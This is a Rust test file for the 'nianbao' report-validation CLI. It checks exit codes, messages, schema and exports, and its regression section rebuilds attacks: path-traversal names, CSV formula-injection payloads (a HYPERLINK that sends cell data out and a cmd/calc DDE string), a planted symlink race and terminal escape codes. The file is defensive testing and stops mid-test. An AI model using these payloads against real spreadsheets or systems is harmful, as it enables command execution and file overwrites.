//! The command line: exit codes, error messages that name the place, JSON output, `new`,
//! `schema`, stdin, and exports blocked by validation errors.

mod common;

use common::{nianbao, root};
use serde_json::{json, Value};
use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn temp_json(name: &str, v: &Value) -> String {
    temp_text(name, &v.to_string())
}

fn temp_text(name: &str, text: &str) -> String {
    let dir = root().join("target/test-out/cli");
    std::fs::create_dir_all(&dir).unwrap();
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p.to_string_lossy().into_owned()
}

fn demo() -> Value {
    serde_json::from_str(
        &std::fs::read_to_string(root().join("examples/demo-city-2024.json")).unwrap(),
    )
    .unwrap()
}

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn validate_examples_exits_zero_and_shows_the_seed_mix_warning() {
    let mut args = vec!["validate"];
    let ex = common::examples();
    args.extend(ex.iter().map(|s| s.as_str()));
    let o = nianbao(&args);
    assert_eq!(o.status.code(), Some(0), "{}{}", stdout(&o), stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains("potou-2023.json: 警告 warning [F-02]"),
        "{out}"
    );
    assert!(out.contains("第二十条第（一）项"), "{out}");
}

#[test]
fn one_changed_cell_exits_one_and_names_cell_and_rule() {
    let mut v = demo();
    let n = v["applications"]["total_processed"]["natural_person"]
        .as_i64()
        .unwrap();
    v["applications"]["total_processed"]["natural_person"] = json!(n + 1);
    let f = temp_json("bumped.json", &v);
    let o = nianbao(&["validate", &f]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert!(out.contains("[A-02]"), "{out}");
    assert!(out.contains("表三 “（七）总计” 行 “自然人” 列"), "{out}");
    assert!(
        out.contains("applications.total_processed.natural_person"),
        "{out}"
    );

    let o = nianbao(&["validate", "--format", "json", &f]);
    assert_eq!(o.status.code(), Some(1));
    let parsed: Value = serde_json::from_str(&stdout(&o)).expect("--format json parses");
    let findings = parsed[0]["findings"].as_array().unwrap();
    let a02 = findings
        .iter()
        .find(|x| x["rule"] == "A-02" && x["path"] == "applications.total_processed.natural_person")
        .expect("A-02 finding");
    assert_eq!(a02["severity"], "error");
    assert_eq!(a02["cell"], "表三 “（七）总计” 行 “自然人” 列");
    assert_eq!(a02["actual"], (n + 1).to_string());
    assert_eq!(a02["expected"], n.to_string());
    assert_eq!(parsed[0]["valid"], false);
}

/// Each malformed input: exit 2, one line on stderr naming the place, no panic.
#[test]
fn bad_input_gets_a_one_line_error_naming_the_place() {
    let good = demo();
    let mut cases: Vec<(&str, String, &[&str])> = Vec::new();
    cases.push((
        "malformed",
        "{\"format\": \"2021\", ".into(),
        &["JSON 语法错误"],
    ));
    let mut v = good.clone();
    v["year"] = json!("2024");
    cases.push(("wrong_type", v.to_string(), &["year", "类型错误"]));
    let mut v = good.clone();
    v["agnecy"] = json!("x");
    cases.push(("unknown_top_key", v.to_string(), &["agnecy", "未知的字段"]));
    let mut v = good.clone();
    v["applications"]["denied"]["state_secrets"] = json!({});
    cases.push((
        "unknown_row",
        v.to_string(),
        &["applications.denied.state_secrets", "未知的行"],
    ));
    let mut v = good.clone();
    v["applications"]["granted"]["natural_persons"] = json!(1);
    cases.push((
        "unknown_column",
        v.to_string(),
        &[
            "applications.granted.natural_persons",
            "未知的列",
            "（一）予以公开",
        ],
    ));
    let mut v = good.clone();
    v["applications"]["granted"]["research"] = json!(-1);
    cases.push((
        "negative",
        v.to_string(),
        &[
            "applications.granted.research",
            "负数",
            "表三 “（一）予以公开” 行 “科研机构” 列",
        ],
    ));
    let mut v = good.clone();
    v["review_litigation"]["review"]["total"] = json!("3");
    cases.push((
        "string_number",
        v.to_string(),
        &["review_litigation.review.total", "字符串", "表四"],
    ));
    let mut v = good.clone();
    v["applications"]["granted"]["research"] = json!(1.5);
    cases.push((
        "fraction",
        v.to_string(),
        &["applications.granted.research", "不是整数"],
    ));
    let mut v = good.clone();
    v.as_object_mut().unwrap().remove("problems");
    cases.push(("missing_section", v.to_string(), &["problems", "缺少"]));
    let mut v = good.clone();
    v["format"] = json!("2030");
    cases.push(("unknown_format", v.to_string(), &["format", "2030"]));
    let mut v = good.clone();
    v["published"] = json!("2025-02-30");
    cases.push(("bad_date", v.to_string(), &["published", "2025-02-30"]));
    let mut v = good.clone();
    v["overview"] = json!([{"table": {"rows": [["a", "b"], ["c"]]}}]);
    cases.push((
        "ragged_table",
        v.to_string(),
        &["overview[0].table.rows", "第2行 1 个"],
    ));
    let mut v = good.clone();
    v["overview"] = json!([{"table": {"rows": [["a", "b"], ["c", "d"], ["e"], ["f", "g"]]}}]);
    cases.push((
        "ragged_row_among_many",
        v.to_string(),
        &["overview[0].table.rows[2]", "多数行 2 个"],
    ));
    let mut v = good.clone();
    v["overview"] = json!([42]);
    cases.push(("bad_block", v.to_string(), &["overview[0]"]));
    cases.push(("not_an_object", "[1,2]".into(), &["JSON 对象"]));
    cases.push(("empty", "".into(), &["JSON"]));

    for (name, text, needles) in cases {
        let f = temp_text(&format!("{name}.json"), &text);
        for cmd in [
            vec!["validate", f.as_str()],
            vec![
                "export",
                f.as_str(),
                "--to",
                "xlsx",
                "--out-dir",
                "target/test-out/cli/never",
            ],
        ] {
            let o = nianbao(&cmd);
            let err = stderr(&o);
            assert_eq!(o.status.code(), Some(2), "{name} {cmd:?}: {err}");
            assert!(!err.contains("panicked"), "{name}: {err}");
            assert_eq!(
                err.trim().lines().count(),
                1,
                "{name}: one line expected: {err}"
            );
            for n in needles {
                assert!(err.contains(n), "{name}: expected {n:?} in {err}");
            }
        }
    }
    assert!(
        !root().join("target/test-out/cli/never").exists(),
        "no output for bad input"
    );
}

#[test]
fn missing_file_and_bad_arguments_exit_two() {
    let o = nianbao(&["validate", "no/such/file.json"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("no/such/file.json"));
    let o = nianbao(&["export", "examples/demo-city-2024.json", "--to", "odt"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("odt"));
    let o = nianbao(&[
        "export",
        "examples/demo-city-2024.json",
        "--date",
        "2025-13-01",
    ]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn validation_errors_block_the_export_and_write_nothing() {
    let mut v = demo();
    v["review_litigation"]["review"]["total"] = json!(99);
    let f = temp_json("invalid.json", &v);
    let dir = root().join("target/test-out/cli/blocked");
    let _ = std::fs::remove_dir_all(&dir);
    let o = nianbao(&[
        "export",
        &f,
        "--to",
        "xlsx",
        "--out-dir",
        dir.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("--allow-invalid"), "{}", stderr(&o));
    assert!(!dir.exists() || std::fs::read_dir(&dir).unwrap().next().is_none());
}

#[test]
fn stdin_is_read_with_a_dash() {
    let text = std::fs::read_to_string(root().join("examples/demo-city-2024.json")).unwrap();
    let o = run_stdin(&["validate", "-"], &text);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).contains("-: 0 个错误"));
}

#[test]
fn new_makes_a_blank_report_with_carried_over_from_last_year() {
    let o = nianbao(&[
        "new",
        "--agency",
        "测试局",
        "--year",
        "2025",
        "--previous",
        "examples/demo-city-2024.json",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["format"], "2021");
    assert_eq!(
        v["applications"]["carried_over"],
        demo()["applications"]["carried_forward"]
    );
    assert_eq!(
        v["applications"]["denied"]["state_secret"]["natural_person"],
        0
    );
    assert_eq!(v["review_litigation"]["review"]["total"], 0);
    assert_eq!(v["proactive"]["fees"]["amount"], json!(0));
    // It reads back.
    let f = temp_text("new.json", &stdout(&o));
    let o = nianbao(&["validate", &f]);
    assert_ne!(o.status.code(), Some(2), "{}", stderr(&o));
    // 2019 by year.
    let o = nianbao(&["new", "--agency", "测试局", "--year", "2020"]);
    let v: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["format"], "2019");
    assert!(v["proactive"]["procurement"].is_object());
    assert!(v["applications"]["other"]["natural_person"].is_number());
}

#[test]
fn schema_is_json_and_follows_the_templates() {
    let o = nianbao(&["schema"]);
    assert_eq!(o.status.code(), Some(0));
    let s: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(s["properties"]["format"]["enum"], json!(["2019", "2021"]));
    let apps = &s["properties"]["applications"]["anyOf"];
    let has_row = |fmt: usize, key: &str| apps[fmt]["properties"].get(key).is_some();
    assert!(has_row(0, "denied") && has_row(1, "denied"));
    assert!(apps[1]["properties"]["other"]["properties"]
        .get("overdue_fee")
        .is_some());
    let regs = &s["properties"]["proactive"]["properties"]["regulations"]["anyOf"];
    assert_eq!(regs.as_array().unwrap().len(), 2, "2019 and 2021 columns");
}

#[test]
fn decimals_survive_the_round_trip_exactly() {
    let mut v = demo();
    v["proactive"]["fees"]["amount"] = serde_json::from_str("24252.311082").unwrap();
    let text = v.to_string();
    assert!(text.contains("24252.311082"));
    let r = nianbao::Report::from_json(&text).unwrap();
    let back = r.to_json_string();
    assert!(back.contains("24252.311082"), "{back}");
    let r2 = nianbao::Report::from_json(&back).unwrap();
    assert_eq!(r, r2);
    // Trailing zeros are kept as written.
    let mut v = demo();
    v["proactive"]["fees"]["amount"] = serde_json::from_str("12.50").unwrap();
    let back = nianbao::Report::from_json(&v.to_string())
        .unwrap()
        .to_json_string();
    assert!(back.contains("12.50"), "{back}");
}

#[test]
fn every_example_round_trips_through_the_model() {
    for ex in common::examples() {
        let text = std::fs::read_to_string(root().join(&ex)).unwrap();
        let r = nianbao::Report::from_json(&text).unwrap();
        let again = nianbao::Report::from_json(&r.to_json_string()).unwrap();
        assert_eq!(r, again, "{ex}");
        let a: Value = serde_json::from_str(&text).unwrap();
        let b: Value = serde_json::from_str(&r.to_json_string()).unwrap();
        assert_eq!(a, b, "{ex}: JSON differs after a round trip");
    }
}

/// The schema is a valid draft 2020-12 schema; every example and fixture satisfies it, and
/// reports that `validate` refuses to read are refused by the schema too.
#[test]
fn examples_satisfy_the_json_schema() {
    let Some(py) = common::python() else { return };
    let o = nianbao(&["schema"]);
    let schema = temp_text("schema.json", &stdout(&o));
    let mut files: Vec<String> = common::examples()
        .into_iter()
        .map(|e| root().join(e).to_string_lossy().into_owned())
        .collect();
    for e in std::fs::read_dir(root().join("tests/fixtures/reports")).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "json") {
            files.push(p.to_string_lossy().into_owned());
        }
    }
    let mut bad = demo();
    bad["applications"]["granted"]["research"] = json!(-1);
    let bad1 = temp_json("schema_negative.json", &bad);
    let mut bad = demo();
    bad["proactive"]["licensing"]["issued"] = json!(1);
    let bad2 = temp_json("schema_unknown_column.json", &bad);
    let o = Command::new(py)
        .arg(root().join("tests/py/check_schema.py"))
        .arg(&schema)
        .args(&files)
        .arg(&bad1)
        .arg(&bad2)
        .output()
        .unwrap();
    let out = stdout(&o);
    assert!(
        o.status.success(),
        "{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    for f in &files {
        assert!(out.contains(&format!("OK {f}")), "{f}: {out}");
    }
    assert!(out.contains(&format!("FAIL {bad1}")), "{out}");
    assert!(out.contains(&format!("FAIL {bad2}")), "{out}");
}

#[test]
fn inputs_with_the_same_name_are_refused_before_anything_is_written() {
    let a = root().join("target/test-out/cli/same-a");
    let b = root().join("target/test-out/cli/same-b");
    for d in [&a, &b] {
        std::fs::create_dir_all(d).unwrap();
        std::fs::copy(
            root().join("examples/demo-city-2024.json"),
            d.join("report.json"),
        )
        .unwrap();
    }
    let out = root().join("target/test-out/cli/same-out");
    let _ = std::fs::remove_dir_all(&out);
    let o = nianbao(&[
        "export",
        a.join("report.json").to_str().unwrap(),
        b.join("report.json").to_str().unwrap(),
        "--to",
        "xlsx",
        "--out-dir",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("同名"), "{}", stderr(&o));
    assert!(!out.exists());
}

#[test]
fn docx_export_warns_about_characters_outside_gb2312() {
    let dir = root().join("target/test-out/cli/gb2312");
    let _ = std::fs::remove_dir_all(&dir);
    let o = nianbao(&[
        "export",
        "examples/potou-2023.json",
        "--to",
        "docx",
        "--out-dir",
        dir.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let err = stderr(&o);
    let line = err
        .lines()
        .find(|l| l.contains("GB2312"))
        .expect("a GB2312 warning for the seed");
    assert!(line.contains("區") && line.contains("總"), "{line}");
    let o = nianbao(&[
        "export",
        "examples/demo-city-2024.json",
        "--to",
        "docx",
        "--out-dir",
        dir.to_str().unwrap(),
    ]);
    assert!(!stderr(&o).contains("GB2312"), "{}", stderr(&o));
}

// ---------------------------------------------------------------------------------------------
// Issue 8: the attacks on the command line, each rebuilt here.

/// A fresh scratch folder under target/test-out/cli.
fn scratch(name: &str) -> PathBuf {
    let d = root().join("target/test-out/cli").join(name);
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_nianbao")
}

/// Runs nianbao with arguments given as OS strings, in a folder.
fn run_in(dir: &Path, args: &[&OsStr]) -> std::process::Output {
    Command::new(bin())
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

/// Runs nianbao with a report on standard input.
fn run_stdin(args: &[&str], input: &str) -> std::process::Output {
    common::nianbao_stdin(args, input.as_bytes())
}

/// Runs a bash script with `$0` set to the nianbao binary.
fn bash(script: &str, dir: &Path) -> std::process::Output {
    Command::new("bash")
        .args(["-c", script, bin()])
        .current_dir(dir)
        .output()
        .unwrap()
}

/// Names in a folder.
fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

/// Waits for a child at most `secs` seconds; kills it and fails if it does not finish.
fn wait_or_kill(mut child: std::process::Child, secs: u64, what: &str) -> std::process::Output {
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed().as_secs() > secs {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{what}: still running after {secs} s");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

/// Waits (up to a minute) until `path` exists.
fn wait_for_file(path: &Path, what: &str) {
    let start = std::time::Instant::now();
    while !path.exists() {
        assert!(start.elapsed().as_secs() < 60, "{what}");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
}

/// Sends `signal` (`TERM`, `INT`, …) to a child process.
fn send_signal(child: &std::process::Child, signal: &str) {
    let sent = Command::new("kill")
        .arg(format!("-{signal}"))
        .arg(child.id().to_string())
        .status()
        .unwrap();
    assert!(sent.success(), "kill -{signal}");
}

/// The `.nianbao-*` temporaries left in a folder.
fn temporaries(dir: &Path) -> Vec<String> {
    names(dir)
        .into_iter()
        .filter(|n| n.starts_with(".nianbao-"))
        .collect()
}

/// Item 1: with the report on stdin, the output name comes from the report; it stays one safe
/// component inside --out-dir whatever the agency says.
#[test]
fn a_hostile_agency_cannot_write_outside_the_out_dir() {
    let base = scratch("traversal");
    let out = base.join("a/b/out");
    std::fs::create_dir_all(&out).unwrap();
    let absolute = base.join("absolute");
    for agency in [
        "../../../escaped".to_string(),
        absolute.join("x").to_string_lossy().into_owned(),
        "CON".to_string(),
        "..".to_string(),
    ] {
        let mut v = demo();
        v["agency"] = json!(agency);
        let o = run_stdin(
            &[
                "export",
                "-",
                "--to",
                "xlsx",
                "--out-dir",
                out.to_str().unwrap(),
            ],
            &v.to_string(),
        );
        assert_eq!(o.status.code(), Some(0), "{agency}: {}", stderr(&o));
        let written = names(&out);
        assert_eq!(written.len(), 1, "{agency}: {written:?}");
        let name = &written[0];
        assert!(
            name.ends_with("-2024.xlsx") || name == "report.xlsx",
            "{name}"
        );
        assert!(!name.starts_with('.') && !name.contains('/'), "{name}");
        std::fs::remove_file(out.join(name)).unwrap();
    }
    assert_eq!(
        names(&base),
        ["a"],
        "something was written outside --out-dir"
    );
    assert_eq!(names(&base.join("a")), ["b"]);
    assert_eq!(names(&base.join("a/b")), ["out"]);
}

/// Item 2: agency and file-name fields that look like formulas stay text in both CSVs, as
/// LibreOffice reads them; negative numbers stay numbers.
#[test]
fn csv_fields_that_look_like_formulas_stay_text_in_libreoffice() {
    let dir = scratch("csv-injection");
    let mut v = demo();
    v["agency"] = json!("=1+2");
    std::fs::write(dir.join("=HYPERLINK(\"http:x?\"&A1).json"), v.to_string()).unwrap();
    let mut v: Value = serde_json::from_str(
        &std::fs::read_to_string(root().join("examples/demo-2019.json")).unwrap(),
    )
    .unwrap();
    v["agency"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    std::fs::write(dir.join("+2019.json"), v.to_string()).unwrap();
    let args: Vec<&OsStr> = [
        "collect",
        "=HYPERLINK(\"http:x?\"&A1).json",
        "+2019.json",
        "-o",
        "all.xlsx",
        "--csv-wide",
        "wide.csv",
        "--csv-long",
        "long.csv",
    ]
    .iter()
    .map(OsStr::new)
    .collect();
    let o = run_in(&dir, &args);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let wide = std::fs::read_to_string(dir.join("wide.csv")).unwrap();
    assert!(wide.contains(",'=1+2,"), "{wide}");
    assert!(
        wide.starts_with("\u{feff}file,"),
        "UTF-8 BOM, then the header"
    );
    let long = std::fs::read_to_string(dir.join("long.csv")).unwrap();
    assert!(
        long.contains(",-15\r\n"),
        "a negative 本年增/减 stays a number"
    );

    // What LibreOffice makes of them: no formula anywhere, the agency as text.
    let py = common::require_python();
    let conv = dir.join("converted");
    common::soffice_convert(
        &dir.join("lo-profile"),
        "xlsx",
        &conv,
        &[dir.join("wide.csv"), dir.join("long.csv")],
    );
    let script = r#"
import sys, openpyxl
for path in sys.argv[1:]:
    ws = openpyxl.load_workbook(path).active
    for row in ws.iter_rows():
        for c in row:
            if c.data_type == "f":
                print("FORMULA", path, c.coordinate, repr(c.value))
            if c.value == -15:
                print("NEGATIVE", c.data_type)
            if isinstance(c.value, str) and "=1+2" in c.value:
                print("AGENCY", repr(c.value))
"#;
    let o = Command::new(py)
        .arg("-c")
        .arg(script)
        .arg(conv.join("wide.xlsx"))
        .arg(conv.join("long.xlsx"))
        .output()
        .unwrap();
    let out = stdout(&o);
    assert!(o.status.success(), "{out}{}", stderr(&o));
    assert!(!out.contains("FORMULA"), "{out}");
    assert!(out.contains("AGENCY"), "{out}");
    assert!(out.contains("NEGATIVE n"), "{out}");
}

/// Item 7: a symbolic link planted at the old, predictable temporary name must not redirect
/// the write. `exec` keeps bash's PID, so `$$` is the PID nianbao runs with.
#[test]
fn a_planted_link_at_the_temporary_name_is_never_followed() {
    let dir = scratch("symlink-clobber");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let victim = dir.join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let example = root().join("examples/demo-city-2024.json");
    let script = format!(
        "ln -s {victim} {out}/.demo-city-2024.xlsx.$$.tmp && exec \"$0\" export {example} --to xlsx --out-dir {out} --quiet",
        victim = victim.display(),
        out = out.display(),
        example = example.display()
    );
    let o = bash(&script, &dir);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    let written = out.join("demo-city-2024.xlsx");
    let meta = std::fs::symlink_metadata(&written).unwrap();
    assert!(
        meta.is_file(),
        "the output is a regular file, not the planted link"
    );
    assert!(std::fs::read(&written).unwrap().starts_with(b"PK"));
}

/// Items 8 and 13: a full disk (a file-size limit: writes fail with EFBIG) while writing the
/// PDF, after the XLSX and DOCX fit: exit 3, and no file at all, neither the formats written
/// before nor a temporary, however often it is retried.
#[test]
fn a_failed_write_leaves_no_output_and_no_temporary() {
    let dir = scratch("disk-full");
    let out = dir.join("out");
    let example = root().join("examples/demo-city-2024.json");
    let script = format!(
        "trap '' XFSZ; ulimit -f 150; exec \"$0\" export {example} --to xlsx,docx,pdf --out-dir {out}",
        example = example.display(),
        out = out.display()
    );
    for _ in 0..2 {
        let o = bash(&script, &dir);
        assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
        assert!(stderr(&o).contains("demo-city-2024.pdf"), "{}", stderr(&o));
        assert_eq!(names(&out), Vec::<String>::new());
    }
    // A writer failure (a --font file that does not exist) after two formats: nothing either.
    let o = nianbao(&[
        "export",
        "examples/demo-city-2024.json",
        "--to",
        "xlsx,docx,pdf",
        "--font",
        "body=/no/such/font.otf",
        "--out-dir",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_eq!(names(&out), Vec::<String>::new());
}

/// Item 9: a FIFO (or device) as the output is written into, never replaced by a file.
#[test]
fn a_fifo_output_is_written_into_not_replaced() {
    use std::os::unix::fs::FileTypeExt;
    let dir = scratch("fifo-out");
    let fifo = dir.join("pipe.xlsx");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let (tx, rx) = std::sync::mpsc::channel();
    let reader = fifo.clone();
    std::thread::spawn(move || {
        let _ = tx.send(std::fs::read(&reader));
    });
    let o = nianbao(&[
        "export",
        "examples/demo-city-2024.json",
        "--to",
        "xlsx",
        "-o",
        fifo.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let ft = std::fs::symlink_metadata(&fifo).unwrap().file_type();
    assert!(ft.is_fifo(), "the FIFO was replaced");
    let got = rx
        .recv_timeout(std::time::Duration::from_secs(30))
        .expect("the reader got nothing")
        .unwrap();
    assert!(got.starts_with(b"PK") && got.len() > 10_000);

    // /dev/stdout: written through to the caller's output; the link stays.
    let o = nianbao(&[
        "new",
        "--agency",
        "测试局",
        "--year",
        "2024",
        "-o",
        "/dev/stdout",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["agency"], "测试局");
    assert!(std::fs::symlink_metadata("/dev/stdout")
        .unwrap()
        .file_type()
        .is_symlink());
}

/// Item 10: the walk reads regular files only, once each, and ends: a FIFO named *.json and a
/// link loop are listed as ignored.
#[test]
fn collect_skips_fifos_and_link_loops_and_finishes() {
    let dir = scratch("walk");
    let input = dir.join("in");
    std::fs::create_dir_all(input.join("sub")).unwrap();
    std::fs::copy(
        root().join("examples/demo-city-2024.json"),
        input.join("r.json"),
    )
    .unwrap();
    std::os::unix::fs::symlink(".", input.join("loop")).unwrap();
    std::os::unix::fs::symlink("..", input.join("sub/up")).unwrap();
    std::os::unix::fs::symlink("../r.json", input.join("sub/again.json")).unwrap();
    assert!(Command::new("mkfifo")
        .arg(input.join("blocked.json"))
        .status()
        .unwrap()
        .success());
    let child = Command::new(bin())
        .args(["collect", "in", "-o", "all.xlsx", "--csv-wide", "wide.csv"])
        .current_dir(&dir)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let o = wait_or_kill(child, 60, "collect over a FIFO and a link loop");
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    for ignored in [
        "in/blocked.json",
        "in/loop",
        "in/sub/up",
        "in/sub/again.json",
    ] {
        assert!(
            err.lines()
                .any(|l| l.contains(ignored) && l.contains("ignored")),
            "{ignored} not reported: {err}"
        );
    }
    let wide = std::fs::read_to_string(dir.join("wide.csv")).unwrap();
    assert_eq!(wide.lines().count(), 2, "one report, read once");
}

/// Item 11: data after the report, a second report, a key twice (at any depth) are input
/// errors naming the place.
#[test]
fn trailing_data_and_duplicate_keys_are_input_errors() {
    let text = demo().to_string();
    let nested_dup = text.replacen(
        "\"natural_person\":",
        "\"natural_person\":1,\"natural_person\":",
        1,
    );
    for (name, input, needles) in [
        ("garbage", format!("{text}\nxyz"), &["多余", "line 2"][..]),
        ("two_reports", format!("{text}{text}"), &["多余"]),
        ("dup", nested_dup, &["natural_person", "两次"]),
    ] {
        let f = temp_text(&format!("{name}.json"), &input);
        let o = nianbao(&["validate", &f]);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{name}: {err}");
        assert_eq!(err.trim().lines().count(), 1, "{name}: {err}");
        for n in needles {
            assert!(err.contains(n), "{name}: {n:?} not in {err}");
        }
    }
}

/// Item 12: one documented code per class.
#[test]
fn exit_codes_follow_the_documented_classes() {
    let dir = scratch("exit-codes");
    // 3: an output that cannot be written (no such folder; an out-dir under a file).
    let o = nianbao(&[
        "export",
        "examples/demo-city-2024.json",
        "--to",
        "xlsx",
        "-o",
        dir.join("missing/x.xlsx").to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    assert!(stderr(&o).contains("missing/x.xlsx"), "{}", stderr(&o));
    std::fs::write(dir.join("file"), "").unwrap();
    let o = nianbao(&[
        "export",
        "examples/demo-city-2024.json",
        "--to",
        "xlsx",
        "--out-dir",
        dir.join("file/sub").to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));
    // 2: a --font file that is not there, and not a font.
    std::fs::write(dir.join("bad.otf"), "not a font").unwrap();
    for font in [
        "body=/no/such/font.otf".to_string(),
        format!("body={}", dir.join("bad.otf").display()),
    ] {
        let o = nianbao(&[
            "export",
            "examples/demo-city-2024.json",
            "--to",
            "pdf",
            "--font",
            &font,
            "--out-dir",
            dir.to_str().unwrap(),
        ]);
        assert_eq!(o.status.code(), Some(2), "{font}: {}", stderr(&o));
    }
    // 1 after writing: --allow-invalid.
    let mut v = demo();
    v["review_litigation"]["review"]["total"] = json!(99);
    let f = temp_json("invalid-allowed.json", &v);
    let o = nianbao(&[
        "export",
        &f,
        "--to",
        "xlsx",
        "--allow-invalid",
        "--out-dir",
        dir.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(dir.join("invalid-allowed.xlsx").is_file());
    // 2: a bad option value.
    let o = nianbao(&["export", "x.json", "--pdf-standard", "a-9"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("a-2b"),
        "the choices are listed: {}",
        stderr(&o)
    );
}

/// Item 15: outputs that are inputs, or each other, are refused before anything is written.
#[test]
fn outputs_that_are_inputs_or_each_other_are_refused() {
    let dir = scratch("clash");
    let input = dir.join("in.json");
    std::fs::copy(root().join("examples/demo-city-2024.json"), &input).unwrap();
    std::fs::hard_link(&input, dir.join("alias.json")).unwrap();
    let original = std::fs::read(&input).unwrap();
    let i = input.to_str().unwrap();
    let cases: Vec<Vec<&str>> = vec![
        vec!["collect", i, "-o", i],
        vec!["collect", i, "-o", "alias.json"],
        vec!["collect", "in.json", "-o", "./sub/../in.json"],
        vec!["collect", i, "-o", "out.xlsx", "--csv-long", "out.xlsx"],
        vec![
            "collect",
            i,
            "-o",
            "out.xlsx",
            "--csv-wide",
            "w.csv",
            "--csv-long",
            "./w.csv",
        ],
        vec!["export", i, "--to", "docx", "-o", "alias.json"],
        vec![
            "new",
            "--agency",
            "x",
            "--year",
            "2024",
            "--previous",
            i,
            "-o",
            i,
        ],
        vec!["aggregate", i, "--agency", "某市人民政府", "-o", i],
    ];
    std::fs::create_dir_all(dir.join("sub")).unwrap();
    for args in cases {
        let os: Vec<&OsStr> = args.iter().map(OsStr::new).collect();
        let o = run_in(&dir, &os);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("同一个文件") || stderr(&o).contains("输入文件"),
            "{args:?}: {}",
            stderr(&o)
        );
        assert_eq!(std::fs::read(&input).unwrap(), original, "{args:?}");
        assert_eq!(names(&dir), ["alias.json", "in.json", "sub"], "{args:?}");
    }
}

/// Item 16: control characters from the input are escaped, never sent to the terminal.
#[test]
fn control_characters_in_messages_are_escaped() {
    let text = demo()
        .to_string()
        .replacen("\"agency\"", "\"\\u001b[2J\\u0007agency\"", 1);
    let f = temp_text("esc-key.json", &text);
    let o = nianbao(&["validate", &f]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        !o.stderr.contains(&0x1b) && !o.stderr.contains(&0x07),
        "{err:?}"
    );
    assert!(err.contains("\\u{1b}[2J\\u{7}agency"), "{err}");
}

/// Item 16: encodings are named; a BOM is accepted.
#[test]
fn encodings_are_named_and_a_bom_is_accepted() {
    let text = std::fs::read_to_string(root().join("examples/demo-city-2024.json")).unwrap();
    let dir = scratch("encodings");
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(text.as_bytes());
    std::fs::write(dir.join("bom.json"), bom).unwrap();
    let o = nianbao(&["validate", dir.join("bom.json").to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let gbk = encoding_rs::GBK.encode(&text).0.into_owned();
    std::fs::write(dir.join("gbk.json"), gbk).unwrap();
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(dir.join("utf16.json"), utf16).unwrap();
    let utf16_no_bom: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    std::fs::write(dir.join("utf16-nobom.json"), utf16_no_bom).unwrap();
    for (f, enc) in [
        ("gbk.json", "GBK"),
        ("utf16.json", "UTF-16"),
        ("utf16-nobom.json", "UTF-16"),
    ] {
